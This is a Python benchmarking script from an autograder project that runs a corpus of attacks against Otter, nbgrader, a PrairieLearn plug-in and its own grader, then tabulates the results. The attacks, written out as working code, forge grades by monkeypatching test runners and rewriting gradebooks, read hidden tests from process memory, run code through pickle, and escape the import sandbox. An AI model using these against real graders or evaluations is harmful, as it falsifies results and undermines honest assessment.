"""Ideas of the attack corpus against four graders; the table in `docs/other-graders.md`.

    python -m scripts.other_graders [IDEA …]

Otter and nbgrader are those that this project depends on. `pytest-prairielearn-grader` is no
dependency: it is installed from the package index into a temporary environment. Each grader gets
the same three questions in its own format, and each idea is handed in with wrong answers: points,
or a trace that it leaves, say whether it succeeded. That takes a quarter of an hour. Where ideas
are named, their rows are printed and the page stays as it is.
"""

from __future__ import annotations

import contextlib
import datetime
import importlib.metadata
import json
import os
import platform
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import nbformat
import psutil

from autograder import grade
from autograder.authoring.course import find
from autograder.authoring.publish import emit_lesson
from autograder.run.sandbox.limits import MIB, Limits

PAGE = Path(__file__).parents[1] / "docs" / "other-graders.md"
BEGIN = "<!-- Written by `python -m scripts.other_graders`; do not edit. -->"
END = "<!-- End of what is written by it. -->"
OTTER, NBGRADER, PRAIRIELEARN, OURS = GRADERS = (
    "otter run",
    "nbgrader autograde",
    "pytest-prairielearn-grader",
    "autograder grade",
)
HELD, NOT_APPLICABLE = "held", "not applicable"
#: what a cell of the table says
VERDICTS = (HELD, "**forged**", "**read**", "**reached**", NOT_APPLICABLE)
LESSON = "01-tiny"
_SECONDS = 120
#: what the decoder of values needs, and the package does not ask for
_DECODER_NEEDS = ("numpy", "pandas", "networkx", "plot-serializer")
_WORKER = "nobody"

#: question → name, solution, hidden test
QUESTIONS = {
    "q1": ("answer", "answer = 42", "assert answer == 40 + 2, 'not the number_of_the_sage'"),
    "q2": ("share", "share = 0.375", "assert abs(share - 3 / 8) < 1e-9, 'no number_of_the_sage'"),
    "q3": (
        "shout",
        "def shout(text):\n    return text.upper() + '!'",
        "assert shout('a sage of 1871') == 'A SAGE OF 1871!', 'not the number_of_the_sage'",
    ),
}
POINTS = 2.0
WRONG = "answer, share, shout = 0, 0.5, str\n"
RIGHT = "\n".join(solution for _, solution, _ in QUESTIONS.values()) + "\n"

_WALK = """
import os, re
for top in (r"CLASS", ".", f"/proc/{os.getppid()}/cwd"):
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                if re.search(rb"WORD", open(os.path.join(folder, name), "rb").read()):
                    answer = 42
            except OSError:
                pass
"""


@dataclass(frozen=True)
class Idea:
    """One idea, as code below wrong answers.

    Attributes:
        case: the attack in `tests/attacks/` that has it, without its ending.
        what: what it tries, and how it is seen to succeed.
        success: the table's word for that.
        code: `CLASS` in it is the grader's own folder, which code would find by looking; `PORT` a
            socket that listens on this machine; `MARK` what a process that stays is called.
        question: the one whose points say that it succeeded; none where a trace does.
        without: graders that have nothing for it to work on.
    """

    case: str
    what: str
    success: str
    code: str
    question: str = "q1"
    without: tuple[str, ...] = ()


IDEAS = (
    Idea(
        "patched-otter",
        "replaces what runs the tests: Otter's test file, IPython's cells that assert, pytest, and "
        "what turns values into JSON",
        "forged",
        """
import contextlib
with contextlib.suppress(Exception):
    import otter.test_files.exception_test as otters
    otters.test_case.call_func = lambda self, environment: None
with contextlib.suppress(Exception):
    get_ipython().input_transformers_post.append(
        lambda lines: ["pass\\n"] if any("assert" in line for line in lines) else lines)
with contextlib.suppress(Exception):
    import pytest, __main__
    pytest.Function.runtest = lambda self: None
    __main__.to_json = lambda value: {"status": "success", "value": True, "outcome": "passed"}
""",
    ),
    Idea(
        "leaves-at-once",
        "ends Python with the status of success, `os._exit(0)`",
        "forged",
        "import os\nos._exit(0)\n",
    ),
    Idea(
        "equals-everything",
        "answers with an `int` whose `__eq__` says yes",
        "forged",
        """
class Yes(int):
    __hash__ = int.__hash__
    def __eq__(self, other):
        return True
answer = Yes(0)
""",
    ),
    Idea(
        "patched-builtins",
        "replaces built-in functions that a test leans on: `abs` gives 0",
        "forged",
        "import builtins\nbuiltins.abs = lambda value: 0\n",
        question="q2",
    ),
    Idea(
        "walks-the-objects",
        "looks for hidden tests in frames, in all objects, in cells to come and, by "
        "`sys.setprofile`, in each function that is called; answers question 2 when it finds them",
        "read",
        """
import contextlib, gc, re, sys
def look(text):
    if re.search("number_of_the_[s]age", text):
        globals()["share"] = 0.375
frame = sys._getframe()
while frame:
    look(repr(frame.f_code.co_consts))
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing) is dict:
        for part in list(thing.values()):
            if type(part) is str:
                look(part[:5000])
with contextlib.suppress(NameError):
    get_ipython().events.register("pre_run_cell", lambda info: look(info.raw_cell))
sys.setprofile(lambda frame, event, _: event == "call" and look(repr(frame.f_code.co_consts)))
""",
        question="q2",
    ),
    Idea(
        "reads-the-tests",
        "looks for hidden tests in the files of the grader's folder and of its own",
        "read",
        _WALK.replace("WORD", "number_of_the_[s]age"),
    ),
    Idea(
        "traces-others",
        "looks for hidden tests in the memory of the process that has started it, `/proc/PID/mem`",
        "read",
        """
import os, re
with open(f"/proc/{os.getppid()}/maps") as maps, open(f"/proc/{os.getppid()}/mem", "rb") as memory:
    for line in maps:
        begin, end = (int(number, 16) for number in line.split()[0].split("-"))
        if " rw-p " in line and end - begin < 1 << 28:
            try:
                memory.seek(begin)
                if re.search(rb"number_of_the_[s]age", memory.read(end - begin)):
                    answer = 42
            except OSError:
                pass
""",
    ),
    Idea(
        "function-that-answers-with-yes",
        "a function that looks up what its caller compares it with",
        "forged",
        """
import sys
def shout(text):
    frame = sys._getframe(1)
    while frame:
        for constant in frame.f_code.co_consts:
            if isinstance(constant, str) and re.fullmatch("A SAGE .*!", constant):
                return constant
        frame = frame.f_back
    return text
import re
""",
        question="q3",
    ),
    Idea(
        "writes-the-outcome",
        "leaves a process behind that waits for the grader to end, and gives itself all points in "
        "what it has written: its JSON, its gradebook",
        "forged",
        """
import os, subprocess, sys
LATER = '''
import glob, json, os, sqlite3, sys, time
while os.path.exists("/proc/" + sys.argv[1]):
    time.sleep(0.2)
for path in glob.glob("CLASS/**/*results.json", recursive=True):
    marks = json.load(open(path))
    for test in marks["tests"]:
        test.update(score=2.0, points=2.0)
    json.dump(marks, open(path, "w"))
for path in glob.glob("CLASS/**/gradebook.db", recursive=True):
    with sqlite3.connect(path) as gradebook:
        gradebook.execute("UPDATE grade SET auto_score = 2.0")
'''
subprocess.Popen([sys.executable, "-c", LATER, str(os.getppid()), "MARK"], start_new_session=True)
""",
    ),
    Idea(
        "outlives-its-parent",
        "leaves a process behind that is still there when the grader has ended",
        "reached",
        """
import subprocess, sys
SLEEP = "import time; time.sleep(20)"
subprocess.Popen([sys.executable, "-c", SLEEP, "MARK"], start_new_session=True)
""",
        question="",
    ),
    Idea(
        "reads-other-submissions",
        "looks for what another student has handed in",
        "read",
        _WALK.replace("WORD", "a_very_honest_[s]tudent"),
        without=(PRAIRIELEARN,),
    ),
    Idea(
        "network",
        "connects to a port of the machine",
        "reached",
        'import socket\nsocket.create_connection(("127.0.0.1", PORT), 3).close()\nanswer = 42\n',
    ),
    Idea(
        "memory-bomb",
        "takes 700 MB of memory and 300 MB of disk, where this grader is told to allow 512 MB and "
        "128 MB; the others have no such limits",
        "reached",
        """
import os, tempfile
much = b"x" * (700 << 20)
with tempfile.TemporaryFile() as file:
    for _ in range(300):
        file.write(much[:1 << 20])
    file.flush()
answer = 42
""",
    ),
    Idea(
        "forged-snapshot",
        "answers with data that make the decoder of values call a function by name: it loads the "
        "right answer from a file that only the grader's user may read",
        "forged",
        """
answer = {"_type": "np_scalar", "_concrete_type": "loadtxt", "_value": "CLASS/private.txt"}
""",
        without=(OTTER, NBGRADER),
    ),
    Idea(
        "pickled-array",
        "puts code into what the grader unpickles, which then leaves a file in the grader's folder",
        "reached",
        """
import contextlib, gc, pickle
class Code:
    def __reduce__(self):
        return exec, ("open('CLASS/private.trace', 'w').close()",)
dump = pickle.dump
pickle.dump = lambda thing, file, *others: dump(Code(), file)
for thing in gc.get_objects():
    if type(thing) is dict and "__from_server_json" in thing:
        thing["reference"] = Code()
""",
        question="",
        without=(NBGRADER,),
    ),
)


def notebook(code: str) -> nbformat.NotebookNode:
    """The code in a notebook of the lesson, for Otter and for this grader."""
    first = f'LESSON = "{LESSON}"\nimport otter\ngrader = otter.Notebook()'
    checks = [f'grader.check("{question}")' for question in QUESTIONS]
    cells = [nbformat.v4.new_code_cell(cell) for cell in (first, code, *checks)]
    return nbformat.v4.new_notebook(cells=cells, metadata={"otter": {"assignment_name": LESSON}})


def otter_zip(folder: Path) -> Path:
    """What `otter assign` makes of the three questions."""
    parts = [
        "# ---\n# jupyter:\n#   kernelspec:\n#     display_name: Python 3\n"
        "#     language: python\n#     name: python3\n# ---\n",
        "# %% [raw]\n# # ASSIGNMENT CONFIG\n"
        f"# name: {LESSON}\n# init_cell: false\n# export_cell: false\n"
        "# tests:\n#   files: true\n#   ok_format: false\n",
        "# %% [markdown]\n# # Tiny\n#\n# {{ badge }}\n",
        "# %%\n# {{ setup }}\n",
    ]
    for question, (name, solution, test) in QUESTIONS.items():
        parts += [
            f"# %% [raw]\n# # BEGIN QUESTION\n# name: {question}\n# points: {POINTS:g}\n",
            f"# %% [markdown]\n# Give `{name}`.\n",
            "# %% [raw]\n# # BEGIN SOLUTION\n",
            f"# %%\n{name} = ...\n# BEGIN SOLUTION\n{solution}\n# END SOLUTION\n",
            "# %% [raw]\n# # END SOLUTION\n\n# %% [raw]\n# # BEGIN TESTS\n",
            f"# %%\n# HIDDEN\ndef test_{name}({name}):\n    {test}\n",
            "# %% [raw]\n# # END TESTS\n\n# %% [raw]\n# # END QUESTION\n",
        ]
    parts.append("# %%\n# {{ hand_in }}\n\n# %% [markdown]\n# {{ links }}\n")
    source = folder / "solutions" / LESSON / "lesson.py"
    source.parent.mkdir(parents=True)
    source.write_text("\n".join(parts))
    (folder / "pyproject.toml").write_text('[tool.course]\nrepository = "a/b"\nbranch = "main"\n')
    archive = folder / f"{LESSON}.zip"
    archive.write_bytes(emit_lesson(find(folder), LESSON).autograder_zip)
    return archive


def run(*command: str | Path, folder: Path) -> None:
    """Runs a grader's own command. How it ends says nothing: what it has written does."""
    programs = Path(sys.executable).parent  # nbgrader calls alembic by its name
    environment = os.environ | {"PATH": f"{programs}{os.pathsep}{os.environ.get('PATH', '')}"}
    with (folder / "log.txt").open("ab") as log, contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(
            [*map(str, command)],
            cwd=folder,
            env=environment,
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=log,
            timeout=_SECONDS,
        )


class Grader:
    """One of the four: takes a submission in a folder of its own, and gives points."""

    def __init__(self, work: Path) -> None:
        self.work = work

    def grade(self, folder: Path, code: str) -> None:
        """Grades one submission, in an empty folder."""
        raise NotImplementedError

    def points(self, folder: Path) -> dict[str, float]:
        """Question → points, as they stand in what the grader has written."""
        raise NotImplementedError


class Otter(Grader):
    """`otter run`, in the folder where submissions lie."""

    def __init__(self, work: Path) -> None:
        super().__init__(work)
        self._zip = otter_zip(work / "course")

    def grade(self, folder: Path, code: str) -> None:
        """Grades one submission, in an empty folder."""
        for student, cells in {"me": code, "ada": RIGHT + "# a_very_honest_student"}.items():
            (folder / student).mkdir()
            nbformat.write(notebook(cells), folder / student / f"{LESSON}.ipynb")
        program = Path(sys.executable).with_name("otter")
        run(
            program,
            "run",
            folder / "me" / f"{LESSON}.ipynb",
            "--no-logo",
            "--autograder",
            self._zip,
            "--output-dir",
            folder,
            folder=folder,
        )

    def points(self, folder: Path) -> dict[str, float]:
        """Question → points, as they stand in what the grader has written."""
        try:
            tests = json.loads((folder / "results.json").read_text())["tests"]
        except FileNotFoundError:
            return {}
        return {test["name"]: test.get("score", 0.0) for test in tests}


class Nbgrader(Grader):
    """`nbgrader autograde`, in a course of one assignment."""

    def grade(self, folder: Path, code: str) -> None:
        """Grades one submission, in an empty folder."""
        release, program = self._release(), Path(sys.executable).with_name("nbgrader")
        shutil.copytree(self.work / "course", folder, dirs_exist_ok=True)
        for student, cells in {"me": code, "ada": RIGHT + "# a_very_honest_student"}.items():
            release.cells[0].source = cells
            there = folder / "submitted" / student / LESSON / f"{LESSON}.ipynb"
            there.parent.mkdir(parents=True)
            nbformat.write(release, there)
        run(program, "autograde", LESSON, "--student", "me", folder=folder)

    def _release(self) -> nbformat.NotebookNode:
        """What students get, made by `nbgrader generate_assignment` the first time."""
        course = self.work / "course"
        released = course / "release" / LESSON / f"{LESSON}.ipynb"
        if not released.exists():
            cells = [self._cell("answers", RIGHT, grade=False)]
            for question, (_, _, test) in QUESTIONS.items():
                hidden = f"### BEGIN HIDDEN TESTS\n{test}\n### END HIDDEN TESTS"
                cells.append(self._cell(question, hidden, grade=True))
            source = course / "source" / LESSON / f"{LESSON}.ipynb"
            source.parent.mkdir(parents=True)
            nbformat.write(nbformat.v4.new_notebook(cells=cells), source)
            (course / "nbgrader_config.py").write_text(
                "c = get_config()\nc.CourseDirectory.course_id = 'tiny'\n"
            )
            program = Path(sys.executable).with_name("nbgrader")
            run(program, "generate_assignment", LESSON, folder=course)
        return nbformat.read(released, as_version=4)

    @staticmethod
    def _cell(name: str, source: str, *, grade: bool) -> nbformat.NotebookNode:
        facts = {"schema_version": 3, "grade_id": name, "grade": grade, "locked": grade}
        facts |= {"solution": not grade, "task": False} | ({"points": POINTS} if grade else {})
        return nbformat.v4.new_code_cell(source, metadata={"nbgrader": facts})

    def points(self, folder: Path) -> dict[str, float]:
        """Question → points, as they stand in what the grader has written."""
        from nbgrader.api import Gradebook, MissingEntry

        with Gradebook(f"sqlite:///{folder / 'gradebook.db'}") as gradebook:
            try:
                graded = gradebook.find_submission_notebook(LESSON, LESSON, "me").grades
            except MissingEntry:
                return {}
            return {one.name: one.auto_score or 0.0 for one in graded}


class PrairieLearn(Grader):
    """pytest with the plug-in, as the image of its authors runs it.

    As root, student code then runs as a user without rights; the files keep the modes that they
    come with. Only `math` may be imported, which is stricter than what the plug-in begins with.
    """

    #: gets the real built-in functions back through a module that is always let in
    _WAY_IN = """
import __main__
def here(): pass
here.__globals__["__builtins__"] = __main__.builtins.__dict__
here.__globals__["__builtins__"]["exec"]({code!r}, here.__globals__)
"""
    _CONFIG = """
import functools
import pytest
from pytest_prairielearn_grader import ConfigObject
autograder_config = ConfigObject(sandbox_timeout=20, import_whitelist=["math"])
"""
    _SETUP_TEST = """
@pytest.mark.grading_data(name="setup", points=2)
def test_setup(sandbox):
    assert sandbox.query_setup("reference").startswith("the"), "no set-up"
"""

    def __init__(self, work: Path) -> None:
        super().__init__(work)
        system = Path("/usr/bin/python3")  # the worker may not enter everybody's home
        self.worker = _WORKER if os.geteuid() == 0 and system.exists() else ""
        self._environment = work / "environment"
        uv, python = Path(sys.executable).with_name("uv"), system if self.worker else sys.executable
        print(f"installing {PRAIRIELEARN} into {self._environment}", flush=True)
        for arguments in (
            ("venv", "--quiet", "--python", str(python), str(self._environment)),
            (
                *("pip", "install", "--quiet", "--python", str(self._python)),
                *(PRAIRIELEARN, *_DECODER_NEEDS),
            ),
        ):
            subprocess.run([str(uv), *arguments], check=True)

    @property
    def _python(self) -> Path:
        return self._environment / "bin" / "python"

    def version(self) -> str:
        """Of what was installed."""
        code = f"import importlib.metadata as m; print(m.version({PRAIRIELEARN!r}))"
        return subprocess.check_output([self._python, "-c", code], text=True).strip()

    def grade(self, folder: Path, code: str) -> None:
        """Grades one submission, in an empty folder."""
        tests = [self._CONFIG]
        for question, (name, _, test) in QUESTIONS.items():
            ask = f"functools.partial(sandbox.query_function, {name!r}, query_timeout=20)"
            if question != "q3":
                ask = f"sandbox.query({name!r})"
            tests.append(
                f'@pytest.mark.grading_data(name="{question}", points={POINTS:g})\n'
                f"def test_{question}(sandbox):\n    {name} = {ask}\n    {test}\n"
            )
        (folder / "test_student.py").write_text("\n".join([*tests, self._SETUP_TEST]))
        data = folder / "test_student"
        data.mkdir()
        (data / "setup_code.py").write_text('reference = "the number_of_the_sage"\n')
        (data / "student_code.py").write_text(self._WAY_IN.format(code=code))
        worker = ("--worker-username", self.worker) if self.worker else ()
        options = ("-q", "-p", "no:cacheprovider", "--rootdir", folder)
        run(self._python, "-m", "pytest", *options, *worker, folder, folder=folder)

    def points(self, folder: Path) -> dict[str, float]:
        """Question → points, as they stand in what the grader has written."""
        try:
            tests = json.loads((folder / "autograder_results.json").read_text())["tests"]
        except FileNotFoundError:
            return {}
        return {test["name"].partition("[")[0].strip(): test["points"] for test in tests}


class Ours(Grader):
    """`autograder grade`, over the zip that Otter gets."""

    def grade(self, folder: Path, code: str) -> None:
        """Grades one submission, in an empty folder."""
        for student, cells in {"me": code, "ada": RIGHT + "# a_very_honest_student"}.items():
            there = folder / "submissions" / student / f"{LESSON}.ipynb"
            there.parent.mkdir(parents=True)
            nbformat.write(notebook(cells), there)
        grade(
            folder / "submissions",
            output=folder / "graded",
            assignment=self.work.parent / OTTER / "course" / f"{LESSON}.zip",
            jobs=2,
            limits=Limits(
                cell_seconds=30, memory_bytes=512 * MIB, disk_bytes=128 * MIB, call_seconds=5
            ),
        )

    def points(self, folder: Path) -> dict[str, float]:
        """Question → points, as they stand in what the grader has written."""
        result = json.loads((folder / "graded" / "results" / "me" / f"{LESSON}.json").read_text())
        return {one["name"]: one["score"] or 0.0 for one in result["questions"]}


def verdict(grader: Grader, name: str, idea: Idea, port: int) -> str:
    """Hands an idea in, and says what came of it."""
    if name in idea.without:
        return NOT_APPLICABLE
    mark = f"stays-{time.monotonic_ns()}"
    folder = new_folder(grader.work, idea.case)
    (folder / "private.txt").touch(0o600)
    (folder / "private.txt").write_text("42\n")
    code = WRONG + idea.code
    for word, value in {"CLASS": str(folder), "PORT": str(port), "MARK": mark}.items():
        code = code.replace(word, value)
    grader.grade(folder, code)
    stayed = [one for one in psutil.process_iter() if mark in _command(one)]
    if idea.case == "writes-the-outcome":
        psutil.wait_procs(stayed, timeout=20)
    if idea.question:
        succeeded = grader.points(folder).get(idea.question, 0.0) >= POINTS
    else:
        succeeded = bool(stayed) or (folder / "private.trace").exists()
    for process in stayed:
        with contextlib.suppress(psutil.NoSuchProcess):
            process.kill()
    return f"**{idea.success}**" if succeeded else HELD


def new_folder(work: Path, name: str) -> Path:
    """One that other users may look into, as into a container's folders."""
    folder = work / name
    folder.mkdir(parents=True)
    return folder


def _command(process: psutil.Process) -> list[str]:
    try:
        return process.cmdline()
    except psutil.Error:
        return []


def insist_that_honest_work_counts(grader: Grader, name: str) -> None:
    """Right answers earn all points and wrong ones none; else a table would mean nothing."""
    for what, code, points in (("right", RIGHT, POINTS), ("wrong", WRONG, 0.0)):
        folder = new_folder(grader.work, what)
        grader.grade(folder, code)
        got = grader.points(folder)
        if any(got.get(question) != points for question in QUESTIONS):
            log = folder / "log.txt"
            said = log.read_text()[-3000:] if log.exists() else ""
            raise SystemExit(f"{name}: {what} answers got {got}.\n{said}")


@contextlib.contextmanager
def listening() -> Iterator[int]:
    """A port of this machine that takes connections."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def table(rows: dict[str, dict[str, str]]) -> str:
    """Idea → grader → verdict, as Markdown, with a note for each."""
    lines = [["what the code tries", *(f"`{name}`" for name in GRADERS)], ["---"] * 5]
    for idea in IDEAS:
        if idea.case in rows:
            what = f"`tests/attacks/{idea.case}.py`: {idea.what}"
            lines.append([what, *(rows[idea.case][name] for name in GRADERS)])
    return "".join(f"| {' | '.join(line)} |\n" for line in lines)


def written(page: str, rows: dict[str, dict[str, str]], versions: dict[str, str]) -> str:
    """The page with another table in it."""
    before, _, others = page.partition(BEGIN)
    _, _, after = others.partition(END)
    listed = ", ".join(f"{name} {version}" for name, version in versions.items())
    when = datetime.date.today().isoformat()
    said = textwrap.fill(f"Run on {when}, on {platform.system()}; {listed}.", width=100)
    return f"{before}{BEGIN}\n{said}\n\n{table(rows)}{END}{after}"


def main(*names: str) -> None:
    """Runs the ideas, all of them unless some are named."""
    if unknown := set(names) - {idea.case for idea in IDEAS}:
        raise SystemExit(f"There is no idea called {', '.join(sorted(unknown))}.")
    kinds: dict[str, Callable[[Path], Grader]] = {
        OTTER: Otter,
        NBGRADER: Nbgrader,
        PRAIRIELEARN: PrairieLearn,
        OURS: Ours,
    }
    rows: dict[str, dict[str, str]] = {}
    with tempfile.TemporaryDirectory(prefix="other-graders-") as work, listening() as port:
        Path(work).chmod(0o755)
        graders = {name: make(new_folder(Path(work), name)) for name, make in kinds.items()}
        for name, grader in graders.items():
            insist_that_honest_work_counts(grader, name)
        for idea in IDEAS:
            if not names or idea.case in names:
                rows[idea.case] = {
                    name: verdict(grader, name, idea, port) for name, grader in graders.items()
                }
                print(idea.case, *rows[idea.case].values(), sep=" | ", flush=True)
        prairielearn = graders[PRAIRIELEARN]
        assert isinstance(prairielearn, PrairieLearn)
        versions = {
            "Python": platform.python_version(),
            "Otter": importlib.metadata.version("otter-grader"),
            "nbgrader": importlib.metadata.version("nbgrader"),
            PRAIRIELEARN: prairielearn.version()
            + (f" with `--worker-username {_WORKER}`" if prairielearn.worker else ""),
        }
    if not names:
        PAGE.write_text(written(PAGE.read_text(), rows, versions))


if __name__ == "__main__":
    main(*sys.argv[1:])
